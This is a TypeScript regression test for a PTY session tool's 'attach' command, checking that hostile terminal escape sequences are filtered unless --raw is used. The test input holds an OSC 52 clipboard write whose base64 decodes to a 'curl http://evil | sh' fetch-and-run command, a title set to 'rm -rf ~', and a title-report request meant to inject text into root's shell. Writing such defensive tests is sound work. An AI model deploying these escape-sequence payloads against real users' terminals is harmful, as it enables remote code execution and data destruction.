// The operator's attach (issue 29, review finding REVIEW-10): what a session's program may send to the
// terminal of whoever attaches, root included, is filtered unless --raw (src/cli/terminal-filter.ts).
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { spawn } from 'node:child_process';
import { fileURLToPath } from 'node:url';
import { TestServer } from '../client/test-server.ts';

const root = fileURLToPath(new URL('../..', import.meta.url));
const ID = 2882303761517117;
const UNIT = 'opencode-pty-session-a3c9e01b2d4f5aa.service';
const ACCOUNTING = { cpuUsageNsec: 1, memoryBytes: null, ioReadBytes: null, ioWriteBytes: null, tasks: 0, inputBytes: 0, outputBytes: 5, durationUsec: 1 };

test('attach (REVIEW-10) does not pass a session\'s clipboard write (OSC 52) or a window-title report request to the attaching terminal', async () => {
  const server = new TestServer();
  const runtime = process.versions.bun ? ['src/cli/main.ts'] : ['--import', 'tsx', 'src/cli/main.ts'];
  const child = spawn(process.execPath, [...runtime, 'attach', '--socket', server.path, String(ID)], { cwd: root, env: { PATH: process.env.PATH ?? '/usr/bin:/bin' }, stdio: ['pipe', 'pipe', 'pipe'] });
  let stdout = '';
  child.stdout!.on('data', (chunk) => (stdout += chunk));
  const closed = new Promise<void>((resolve) => child.on('close', () => resolve()));
  const conn = await server.accept();
  await conn.handshake(3);
  await conn.expect('attach');
  conn.send({ type: 'attached', id: ID, role: 2, generation: 1, oldest: 0n, next: 0n, programPid: 4243, mainPid: 4242, unit: UNIT });
  // What a user's program prints to whoever attaches: set the clipboard to a command, then ask the
  // terminal to type its title back (an answer that lands in root's shell once it detaches).
  const hostile = '\x1b]52;c;Y3VybCBodHRwOi8vZXZpbCB8IHNoCg==\x07\x1b]2;rm -rf ~\x07\x1b[21tok';
  conn.send({ type: 'output', data: Buffer.from(hostile) });
  conn.send({ type: 'exit', code: 1, status: 0, result: 'success', accounting: ACCOUNTING });
  await closed;
  server.close();
  assert.ok(stdout.includes('ok'), JSON.stringify(stdout));
  assert.not.ok(stdout.includes('\x1b]52;'), `OSC 52 reached the attaching terminal: ${JSON.stringify(stdout)}`);
  assert.not.ok(stdout.includes('\x1b[21t'), `a title report request reached the attaching terminal: ${JSON.stringify(stdout)}`);
});

test('attach --raw passes the session\'s output as the program wrote it', async () => {
  const server = new TestServer();
  const runtime = process.versions.bun ? ['src/cli/main.ts'] : ['--import', 'tsx', 'src/cli/main.ts'];
  const child = spawn(process.execPath, [...runtime, 'attach', '--raw', '--socket', server.path, String(ID)], { cwd: root, env: { PATH: process.env.PATH ?? '/usr/bin:/bin' }, stdio: ['pipe', 'pipe', 'pipe'] });
  let stdout = '';
  child.stdout!.on('data', (chunk) => (stdout += chunk));
  const closed = new Promise<void>((resolve) => child.on('close', () => resolve()));
  const conn = await server.accept();
  await conn.handshake(3);
  await conn.expect('attach');
  conn.send({ type: 'attached', id: ID, role: 2, generation: 1, oldest: 0n, next: 0n, programPid: 4243, mainPid: 4242, unit: UNIT });
  const hostile = '\x1b]52;c;QQ==\x07\x1b[21tok';
  conn.send({ type: 'output', data: Buffer.from(hostile) });
  conn.send({ type: 'exit', code: 1, status: 0, result: 'success', accounting: ACCOUNTING });
  await closed;
  server.close();
  assert.ok(stdout.includes(hostile), JSON.stringify(stdout));
});

test.run();
